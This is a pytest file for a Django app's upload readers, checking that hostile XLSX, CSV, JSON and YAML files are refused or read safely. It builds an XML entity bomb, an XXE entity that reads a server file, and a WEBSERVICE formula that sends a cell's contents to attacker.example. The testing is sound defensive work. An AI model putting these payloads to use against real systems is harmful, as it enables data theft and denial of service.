"""Hostile files on every reader a browser reaches (the KPI measurements file, the orders file of the
framing's personas, a KPI source, the roadmap file, the backlog CSV) and on every upload page: entity bombs
and external entities in an XLSX, a sheet 16,384 columns wide or 1,048,576 rows long, an old .xls or a
text, an image or nothing named .xlsx, Excel's encodings, NUL characters, impossible dates, cells of
thousands of characters, file names with folders, markup and right-to-left overrides, files over each
page's limit. Each is read, or refused in the reader's words, and a refused file changes nothing. The
hostile bytes are made here, in memory or in ``tmp_path``; figures are in bench/hostile_uploads.py."""

from __future__ import annotations

import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.utils import translation
from openpyxl.utils import get_column_letter

from jalon.documents.csv_import import CsvProblems
from jalon.documents.csv_write import import_activities
from jalon.documents.roadmap_file import FileProblems, parse
from jalon.documents.services import import_roadmap
from jalon.strategy.kpis.sources import run_query
from jalon.strategy.kpis.table import TableProblems, read_file
from jalon.strategy.models import Roadmap
from jalon.workspaces.models import Workspace
from tests.documents.roadmap_files import as_yaml, base_document
from tests.documents.workbooks import with_part
from tests.factories import Team, roadmap_with_activities
from tests.hostile_files import (
    LAUGHS,
    READERS,
    kpi_message,
    orders_message,
    sheet,
    text_row,
)

NOT_XLSX = {
    "fr": "Le fichier n’est pas un classeur XLSX lisible.",
    "en": "The file is not a readable XLSX workbook.",
}
OLD_EXCEL = "This is an old Excel workbook (.xls), which Jalon does not read"
NUL = {
    "fr": "Ce texte contient un caractère NUL (code 0), que Jalon ne peut pas garder\u00a0: supprimez-le.",
    "en": "This text holds a NUL character (code 0), which Jalon cannot keep: remove it.",
}


# Workbooks --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_whose_entities_expand_a_billion_times_is_refused_in_words(
    tmp_path: Path, reader: str, language: str
) -> None:
    bomb = sheet(text_row(1, "&l9;"), LAUGHS)
    assert len(bomb) < 10_000
    with translation.override(language):
        assert READERS[reader](tmp_path, "bombe.xlsx", bomb) == NOT_XLSX[language]


@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_declaring_any_entity_is_refused_before_it_is_expanded(
    tmp_path: Path, reader: str
) -> None:
    # expat expanded a billion laughs until its own amplification limit (0.3 s, and none before expat 2.4)
    # and read a small entity as written: defusedxml, which openpyxl uses when installed, refuses either
    data = sheet(
        text_row(1, "date", "valeur") + text_row(2, "&d;"), '<!DOCTYPE x [<!ENTITY d "05/01/2026">]>'
    )
    with translation.override("fr"):
        assert READERS[reader](tmp_path, "entite.xlsx", data) == NOT_XLSX["fr"]


@pytest.mark.parametrize("reader", list(READERS))
def test_a_workbook_naming_a_server_file_as_an_entity_never_shows_it(tmp_path: Path, reader: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-LINE")
    doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    data = sheet(text_row(1, "date", "valeur") + text_row(2, "&xxe;"), doctype)
    with translation.override("en"):
        message = READERS[reader](tmp_path, "entite.xlsx", data)
    assert message == NOT_XLSX["en"]
    assert "SECRET" not in message


def test_a_sheet_16384_columns_wide_is_read_as_its_filled_cells() -> None:
    empty = "".join(f'<c r="{get_column_letter(n)}2"/>' for n in range(3, 16_385))
    row = text_row(2, "05/01/2026").replace("</row>", empty + "</row>")
    with translation.override("fr"):
        assert read_file("large.xlsx", sheet(text_row(1, "date", "valeur") + row)) == [
            (date(2026, 1, 5), 3.0)
        ]


def test_a_sheet_of_1048576_rows_is_refused_past_the_kpi_files_limit() -> None:
    # openpyxl read such a sheet through once at load to measure it (10 s) before the limit could stop it
    rows = "<row><c><v>46027</v></c><c><v>1</v></c></row>" * 1_048_576
    with translation.override("en"):
        assert kpi_message("million.xlsx", sheet(rows)) == "More than 20,000 lines."


def test_a_workbook_is_read_from_its_first_sheet_without_parsing_the_others() -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["date", "valeur"])
    book.active.append(["05/01/2026", 3])
    book.create_sheet("autre")
    out = io.BytesIO()
    book.save(out)
    broken = with_part(out.getvalue(), "xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row>")
    with translation.override("fr"):
        assert read_file("deux.xlsx", broken) == [(date(2026, 1, 5), 3.0)]


def test_formulas_in_a_workbook_are_never_run_only_their_saved_value_is_read() -> None:
    saved = '<c r="B2"><f>1+1</f><v>2</v></c>'  # Excel saved the result: that is read
    unsaved = '<c r="B3"><f>WEBSERVICE("http://attacker.example/?"&amp;A1)</f></c>'  # no result saved
    rows = text_row(1, "date", "valeur")
    rows += '<row r="2"><c r="A2" t="inlineStr"><is><t>05/01/2026</t></is></c>' + saved + "</row>"
    rows += '<row r="3"><c r="A3" t="inlineStr"><is><t>06/01/2026</t></is></c>' + unsaved + "</row>"
    with translation.override("en"), pytest.raises(TableProblems) as refused:
        read_file("formules.xlsx", sheet(rows))
    assert [(p.line, p.message) for p in refused.value.problems] == [
        (3, "Expected two columns: a date and a value.")
    ]
    with translation.override("fr"):
        assert read_file("formules.xlsx", sheet(rows.replace(unsaved, '<c r="B3"><v>4</v></c>'))) == [
            (date(2026, 1, 5), 2.0),
            (date(2026, 1, 6), 4.0),
        ]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), OLD_EXCEL),
        (b"date;valeur\n05/01/2026;1\n", NOT_XLSX["en"]),
        (b"\x89PNG\r\n\x1a\n" + bytes(4000), NOT_XLSX["en"]),
        (b"", NOT_XLSX["en"]),
    ],
    ids=["old-xls", "csv", "png", "empty"],
)
@pytest.mark.parametrize("reader", list(READERS))
def test_an_old_xls_or_another_file_named_xlsx_is_refused_in_words(
    tmp_path: Path, reader: str, content: bytes, message: str
) -> None:
    with translation.override("en"):
        assert READERS[reader](tmp_path, "classeur.xlsx", content).startswith(message)


# Text files -------------------------------------------------------------------------------------------

TEXT = "date;valeur é\r\n05/01/2026;12\r06/01/2026;7\n07/01/2026;8\r\n"  # CR, LF and CRLF


@pytest.mark.parametrize(
    "data",
    [TEXT.encode("utf-16"), TEXT.encode("cp1252"), TEXT.encode("utf-8-sig")],
    ids=["utf-16", "cp1252", "utf-8-bom"],
)
def test_excels_encodings_and_mixed_line_endings_read_alike(tmp_path: Path, data: bytes) -> None:
    expected = [(date(2026, 1, 5), 12.0), (date(2026, 1, 6), 7.0), (date(2026, 1, 7), 8.0)]
    path = tmp_path / "mesures.csv"
    path.write_bytes(data)
    with translation.override("fr"):
        assert read_file("mesures.csv", data) == expected
        assert run_query(path, "select * from data") == expected


def test_a_text_file_with_a_nul_byte_is_one_problem_for_measurements_and_orders() -> None:
    with translation.override("en"):
        orders = orders_message("commandes.csv", b"client;date;montant\nc1;05/01/2026;1\x00\n")
        measurements = kpi_message("mesures.csv", b"date;valeur\n05/01/2026;1\x00\n")
    assert orders.startswith("This file is not a table (an image, a PDF or another binary file?).")
    assert measurements == "This file is not a table (an image, a PDF or another binary file?)."


@pytest.mark.parametrize("cell", ["x" * 2_000, "9" * 5_000], ids=["2000-characters", "5000-digits"])
def test_a_kpi_file_quotes_at_most_an_excerpt_of_a_long_cell(cell: str) -> None:
    with translation.override("en"):
        message = kpi_message("mesures.csv", f"date;valeur\n05/01/2026;{cell}\n{cell};1\n".encode())
    assert len(message) < 80 and "…" in message


def test_a_kpi_file_of_20000_bad_lines_lists_200_problems_and_counts_the_others() -> None:
    data = b"date;valeur\n" + b"".join(f"{n};x\n".encode() for n in range(20_000))
    with translation.override("fr"), pytest.raises(TableProblems) as refused:
        read_file("mesures.csv", data)
    assert len(refused.value.problems) == 201
    assert refused.value.problems[-1].message == "Et 19\u202f800 autres problèmes."


@pytest.mark.parametrize(
    ("written", "fr", "en"),
    [
        (
            "30/02/2026",
            "«\u00a030/02/2026\u00a0» n’existe pas dans le calendrier\u00a0: "
            "février 2026 compte 28\u00a0jours.",
            "“30/02/2026” is not a day of the calendar: February 2026 has 28 days.",
        ),
        ("0000-01-01", "«\u00a00000-01-01\u00a0» n’est pas une date.", "“0000-01-01” is not a date."),
        (
            "9999-12-31",
            "La date est hors des années 1900 à 2200.",
            "The date is outside the years 1900 to 2200.",
        ),
        ("99999-01-01", "«\u00a099999-01-01\u00a0» n’est pas une date.", "“99999-01-01” is not a date."),
    ],
)
def test_an_impossible_date_in_a_kpi_file_is_refused_at_its_line(written: str, fr: str, en: str) -> None:
    data = f"date;valeur\n05/01/2026;1\n{written};2\n".encode()
    for language, expected in (("fr", fr), ("en", en)):
        with translation.override(language), pytest.raises(TableProblems) as refused:
            read_file("mesures.csv", data)
        assert [(p.line, p.message) for p in refused.value.problems] == [(3, expected)]


@pytest.mark.parametrize("written", ["30/02/2026", "0000-01-01", "9999-12-31", "99999-01-01"])
def test_an_impossible_date_in_an_orders_file_names_its_line_and_column(written: str) -> None:
    data = f"client;date;montant\nc1;05/01/2026;10\nc2;{written};12\n".encode()
    with translation.override("en"):
        message = orders_message("commandes.csv", data)
    assert message.startswith("1 bad line: nothing was changed.") and "line 3, column date" in message


# Roadmap files and backlog CSV -------------------------------------------------------------------------


def problems(text: str, fmt: str) -> list[tuple[str, str]]:
    with pytest.raises(FileProblems) as refused:
        parse(text, fmt)  # type: ignore[arg-type]
    return refused.value.problems


@pytest.mark.parametrize(
    ("fmt", "text", "where"),
    [
        ("json", json.dumps(base_document()).replace("Plan 2027", "Plan\\u00002027"), "roadmap.title"),
        (
            "yaml",
            as_yaml(base_document()).replace("title: Plan 2027", 'title: "Plan\\0 2027"'),
            "roadmap.title",
        ),
        ("json", json.dumps(base_document()).replace('"vision"', '"vi\\u0000sion"'), "roadmap.vi\ufffdsion"),
    ],
    ids=["json-text", "yaml-text", "json-key"],
)
def test_a_nul_character_in_a_roadmap_file_is_refused_at_its_path(fmt: str, text: str, where: str) -> None:
    for language in ("fr", "en"):
        with translation.override(language):
            assert problems(text, fmt) == [(where, NUL[language])]


def test_a_2000_character_title_in_a_roadmap_file_says_its_limit() -> None:
    text = json.dumps(base_document()).replace('"title": "Plan 2027"', '"title": "' + "x" * 2_000 + '"')
    with translation.override("fr"):
        assert problems(text, "json") == [("roadmap.title", "Écrivez au plus 200\u00a0caractères.")]


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400])
def test_a_json_measurement_that_is_not_a_finite_number_is_refused_at_its_path(value: str) -> None:
    text = json.dumps(base_document()).replace('"value": 10}', f'"value": {value}}}')
    with translation.override("en"):
        [(where, message)] = problems(text, "json")
    assert (where, message) in {
        (
            "kpis[0].measurements[0].value",
            "Enter a finite number between -1,000,000,000,000,000 and 1,000,000,000,000,000.",
        ),
        ("/", "A number is longer than 30 characters."),
    }


@pytest.mark.parametrize(
    ("day", "said"),
    [
        ("0000-01-01", "Not a valid date (expected YYYY-MM-DD)."),
        ("99999-01-01", "Not a valid date (expected YYYY-MM-DD)."),
        ("2026-02-30", "“2026-02-30” is not a day of the calendar: February 2026 has 28 days."),
    ],
)
def test_a_roadmap_file_date_in_year_0_or_99999_or_on_30_february_is_refused(day: str, said: str) -> None:
    text = json.dumps(base_document()).replace('"date": "2026-02-28"', f'"date": "{day}"')
    with translation.override("en"):
        assert problems(text, "json") == [("kpis[0].measurements[0].date", said)]


def test_a_roadmap_file_with_a_nul_character_imports_nothing(db: Any) -> None:
    workspace = Workspace.objects.create(slug="agence", name="Agence")
    text = json.dumps(base_document()).replace("Plan 2027", "Plan\\u00002027")
    with pytest.raises(FileProblems):
        import_roadmap(actor=None, workspace=workspace, text=text, fmt="json")
    assert not Roadmap.objects.filter(workspace=workspace).exists()


def test_a_nul_character_in_a_backlog_csv_is_refused_at_its_line_and_imports_nothing(team: Team) -> None:
    roadmap = roadmap_with_activities(team.workspace, team.owner, 1)
    with translation.override("fr"), pytest.raises(CsvProblems) as refused:
        import_activities(actor=None, roadmap=roadmap, text="key,title\nnouvelle,Ti\x00tre\nautre,Autre\n")
    assert refused.value.problems == [("ligne 2", NUL["fr"])]
    assert roadmap.activities.count() == 1
